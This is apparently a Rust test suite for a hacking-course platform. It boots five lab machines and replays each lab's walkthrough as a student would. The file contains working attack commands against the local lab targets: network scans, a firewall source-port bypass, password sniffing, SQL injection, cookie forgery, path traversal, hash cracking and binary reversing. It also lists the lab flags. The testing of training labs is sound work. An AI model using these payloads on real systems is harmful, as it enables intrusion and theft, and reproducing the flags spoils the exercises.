//! The labs that come with the program, built and walked as their instructions say. That takes
//! long under software emulation, so `make test-labs` runs it by itself.
//!
//! They are built on Debian and without a desktop here. What lab04 does needs the kernel that comes
//! with a desktop, so of that one only the tools are looked at. `make test-labs ONLY="lab02 lab04"` takes some.

use crate::common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::world::outside;
use common::{Run, Sandbox, guest, run, text, tool};
use serde_json::{Value, json};

/// Made by `make image`.
const CLOUD_IMAGE: &str = "/var/cache/cyyber/debian-12-cloud-amd64.qcow2";

/// Longer than a busy machine takes to build all of them.
const LONGEST_BUILD: Duration = Duration::from_secs(3 * 60 * 60);

/// A guest of a lab, gone with its instance when it is dropped.
struct Student<'a> {
    sandbox: &'a Sandbox,
    lab: String,
    domain: String,
}

impl<'a> Student<'a> {
    /// Powers on an instance of `lab`, and waits until it runs.
    fn of(sandbox: &'a Sandbox, lab: &str) -> Student<'a> {
        let student = Student {
            sandbox,
            lab: lab.to_owned(),
            domain: format!("{lab}_user_anna"),
        };
        let mut start = sandbox.command(["instance", "start", lab, "anna"]);
        Run::of(&mut start).ok();
        let began = Instant::now();
        let state = || {
            let list = ["-o", "json", "instance", "list", "--lab", lab];
            sandbox.cyyber(list).json()["instances"][0]["state"].clone()
        };
        while state() != "running" {
            assert!(began.elapsed() < guest::BOOTING, "{lab} does not run");
            std::thread::sleep(Duration::from_secs(2));
        }
        student
    }

    /// What a shell of the student's prints for `script`, in the student's home directory.
    #[track_caller]
    fn types(&self, script: &str) -> String {
        let script = script.replace('\'', "'\\''");
        guest::shell(
            &self.domain,
            &format!("cd /home/student; runuser -u student -- sh -c '{script}' 2>&1"),
        )
    }

    #[track_caller]
    fn sees(&self, script: &str, wanted: &str) {
        let seen = self.types(script);
        assert!(seen.contains(wanted), "{script}\nwanted: {wanted}\n{seen}");
    }
}

impl Drop for Student<'_> {
    fn drop(&mut self) {
        let mut cleanup = self.sandbox.command(["instance", "cleanup", "--yes"]);
        let _ = cleanup.args([&*self.lab, "anna"]).output();
    }
}

/// What a lab's instructions say, done.
type Walk = fn(&Student);

const WALKS: [(&str, Walk); 5] = [
    ("lab01", scan_a_network),
    ("lab02", exploit_a_shop),
    ("lab03", find_passwords),
    ("lab04", have_the_tools_of_the_air),
    ("lab05", read_programs),
];

/// The names of labs to take, where not all are.
const ONLY: &str = "CYYBER_TEST_LABS";

fn is_wanted(lab: &str) -> bool {
    let only = std::env::var(ONLY).unwrap_or_default();
    only.trim().is_empty() || only.split_whitespace().any(|name| name == lab)
}

/// The labs as they come, but for what a test machine lacks: the ids of those that are wanted, and
/// their walks.
fn configure(sandbox: &Sandbox) -> Vec<(String, Walk)> {
    let labs = Path::new(env!("CARGO_MANIFEST_DIR")).join("labs");
    let shipped = std::fs::read_to_string(labs.join("labs-config.json")).unwrap();
    let mut config: Value = serde_json::from_str(&shipped).unwrap();
    config["defaults"] = json!({
        "image": {"url": CLOUD_IMAGE}, "disk_size": "10G", "memory_mb": 1536, "vcpus": 2,
        "policy": {"boot_timeout": "30m"},
    });
    let labs_here = config["labs"].as_array_mut().unwrap();
    let names: Vec<String> = labs_here.iter().map(|lab| text(&lab["lab_id"])).collect();
    assert_eq!(names, WALKS.map(|(name, _)| name));
    labs_here.retain(|lab| is_wanted(lab["lab_id"].as_str().unwrap()));
    let mut wanted = Vec::new();
    for lab in labs_here {
        let name = text(&lab["lab_id"]);
        let (_, walk) = WALKS.into_iter().find(|(of, _)| *of == name).unwrap();
        let id = format!("{}{}", sandbox.lab, name.strip_prefix("lab").unwrap());
        lab["lab_id"] = json!(id);
        wanted.push((id, walk));
    }
    assert!(!wanted.is_empty(), "{ONLY} names no lab");
    sandbox.write_config(&config.to_string());
    for entry in std::fs::read_dir(&labs).unwrap().flatten() {
        if entry.path().is_dir() {
            run(tool("cp").arg("-r").arg(entry.path()).arg(sandbox.path("")));
        }
    }
    wanted
}

#[test]
#[ignore = "takes an hour: run by `make test-labs`"]
fn every_lab_works_as_its_instructions_say() {
    let sandbox = Sandbox::with_booting_guests(2);
    let labs = configure(&sandbox);
    let build = || outside(&sandbox.command(["-o", "json", "build", "--jobs", "2"]));
    let built = Run::within(LONGEST_BUILD, &mut build()).json();
    for lab in built["labs"].as_array().unwrap() {
        assert_eq!(lab["result"], "built", "{lab:#}");
    }
    for lab in Run::of(&mut build()).json()["labs"].as_array().unwrap() {
        assert_eq!(lab["result"], "unchanged", "{lab:#}");
    }
    for (lab, walk) in &labs {
        let student = Student::of(&sandbox, lab);
        student.sees("cat /etc/motd", "Cyyber Linux");
        let health = guest::shell(
            &student.domain,
            "systemctl is-system-running --wait || systemctl --failed --quiet",
        );
        assert_eq!(health, "running\n", "{lab}");
        walk(&student);
    }
}

fn scan_a_network(student: &Student) {
    let found = |scan: &str| {
        let found = student.types(scan);
        [10, 20, 30, 66].map(|host| found.contains(&format!("10.13.37.{host}\n")))
    };
    assert_eq!(
        found("nmap -n -sn 10.13.37.0/24"),
        [true, true, true, false]
    );
    assert_eq!(found("sudo nmap -n -sn 10.13.37.0/24"), [true; 4]);
    let services = student.types("sudo nmap -n -sS -sV 10.13.37.10-40");
    for service in ["nginx 1.18.0", "Dovecot pop3d", "22/tcp"] {
        assert!(services.contains(service), "{service}\n{services}");
    }
    // The password is hers who looks for mail every quarter of a minute.
    student.sees(
        "sudo timeout 60 tcpdump -c 40 -Ani lan0 port 110",
        "PASS sunflower",
    );
    student.sees(
        "printf 'user mira\\npass sunflower\\nretr 1\\nquit\\n' | ncat -C 10.13.37.20 110",
        "flag{whoever-listens-reads-along}",
    );
    student.sees("sudo nmap -n -sS 10.13.37.66", "filtered");
    student.sees("sudo nmap -n -sS -g 53 -p- 10.13.37.66", "4711/tcp open");
    student.sees(
        "sudo ncat -s 10.13.37.1 -p 53 10.13.37.66 4711 </dev/null",
        "flag{anyone-can-choose-a-source-port}",
    );
    let routes = student.types("sudo sysctl -n net.ipv4.ip_forward");
    assert_eq!(routes, "0\n");
}

fn exploit_a_shop(student: &Student) {
    student.sees("whatweb localhost", "The little shop");
    let found = student.types("dirb http://localhost -r");
    for place in [
        "+ http://localhost/index.php (CODE:200",
        "DIRECTORY: http://localhost/staff/",
    ] {
        assert!(found.contains(place), "{found}");
    }
    student.sees("curl -s 'http://localhost/?search=%25'", "Globe");
    student.sees("curl -s \"http://localhost/?search='\"", "Database error");
    student.sees(
        "sqlmap -u 'http://localhost/?search=Globe' --batch --level 2 --technique BU --dump",
        "29.00",
    );
    student.sees(
        "curl -sG http://localhost/ --data-urlencode \
         \"search=' UNION SELECT login, password FROM staff --\"",
        "flag{never-glue-strings-into-sql}",
    );
    break_into_the_office(student);
    let listening = student.types("ss -Hltn 'sport = :80'");
    let to_itself = |line: &str| line.contains(" 127.0.0.1:80 ") || line.contains(" [::1]:80 ");
    assert_eq!(listening.lines().filter(|line| to_itself(line)).count(), 2);
    assert_eq!(listening.lines().count(), 2, "{listening}");
}

/// The second hour of the same lab.
fn break_into_the_office(student: &Student) {
    let office = "http://localhost/staff/";
    student.types(&format!(
        "curl -s -c jar -d 'login=mira&password=correct-horse' {office}"
    ));
    student.sees(
        &format!("curl -s -b jar {office}"),
        "Good day, mira. Reports are for managers.",
    );
    let reads = |report: &str, wanted: &str| {
        let badge = r#"$(printf '{"login":"mira","role":"manager"}' | base64 -w0)"#;
        student.sees(
            &format!("curl -s -b badge={badge} '{office}?report={report}'"),
            wanted,
        );
    };
    reads("monday", "Three pencils");
    reads("../safe", "There is no /var/lib/shop/reports/safe");
    reads(
        "....//safe",
        "flag{what-is-removed-once-can-be-there-twice}",
    );
}

fn find_passwords(student: &Student) {
    let list = "john --wordlist=/usr/share/john/password.lst company";
    student.types(list);
    student.sees("john --show company", "mira:sunflower");
    student.types(&format!("{list} --rules"));
    student.sees("john --show company", "tom:Dragon1");
    student.types("crunch 7 7 -t lab%%%% | john --stdin company");
    student.sees("john --show company", "3 password hashes cracked, 1 left");
    student.sees(
        "unzip -pP lab2749 box.zip",
        "flag{long-and-odd-beats-short-and-clever}",
    );
}

fn have_the_tools_of_the_air(student: &Student) {
    for tool in [
        "hostapd",
        "airodump-ng",
        "wpa_supplicant",
        "aircrack-ng",
        "hcxdumptool",
    ] {
        student.sees(&format!("sudo which {tool}"), tool);
    }
    // It looks for what it calls before it looks for radios.
    student.sees("sudo airmon-ng", "Chipset");
    student.sees("cat lab04/access-point.conf", "ssid=classroom");
    student.sees("cat lab04/visitor.conf", "psk=\"sunshine\"");
}

fn read_programs(student: &Student) {
    student.sees("file crackme", "stripped");
    student.sees("checksec --file=crackme", "PIE enabled");
    student.sees("objdump -d -M intel crackme", "strcmp@plt");
    student.sees("strace ./crackme x || true", "write(1, \"No.");
    let compared = student.types("ltrace ./crackme x || true");
    let secret = compared
        .split("strcmp(\"x\", \"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_else(|| panic!("no comparison is seen: {compared}"));
    let strings = student.types("strings crackme");
    assert!(!strings.contains(secret), "{strings}");
    let debugger = "gdb -batch -ex 'set breakpoint pending on' -ex 'break strcmp@plt' -ex 'run x' \
                    -ex 'info registers' -ex 'x/s $rdi' -ex 'x/s $rsi' ./crackme";
    student.sees(debugger, secret);
    student.sees(
        &format!("./crackme '{secret}'"),
        "Yes. You read the machine's mind.",
    );
    open_the_vault(student);
    let sources = student.types("sudo find / -xdev -name crackme.c -o -xdev -name vault.c");
    assert_eq!(sources, "");
}

/// The second hour of the same lab.
fn open_the_vault(student: &Student) {
    student.sees("objdump -d -M intel vault", "cmp    rax,0x26");
    let x = "x".repeat(38);
    student.sees(&format!("./vault {x} || true"), "does not turn");
    let key = student.types(WAY_BACK);
    assert!(key.starts_with("flag{"), "{key}");
    let key = key.trim();
    for look in ["strings vault", &format!("ltrace ./vault {x} || true")] {
        let seen = student.types(look);
        assert!(!seen.contains(key), "{seen}");
    }
    student.sees(&format!("./vault '{key}'"), "The vault is open.");
}

/// What a student would have written after reading the machine code.
const WAY_BACK: &str = r#"
objcopy -O binary -j .rodata vault rodata
python3 - <<END
rodata = open("rodata", "rb").read()
for at in range(len(rodata) - 37):
    state, key = 0x42, b""
    for byte in rodata[at : at + 38]:
        letter = (byte - 7 & 255) ^ state
        state = state * 5 + letter & 255
        key += bytes([letter])
    if key.startswith(b"flag"):
        print(key.decode())
END
"#;
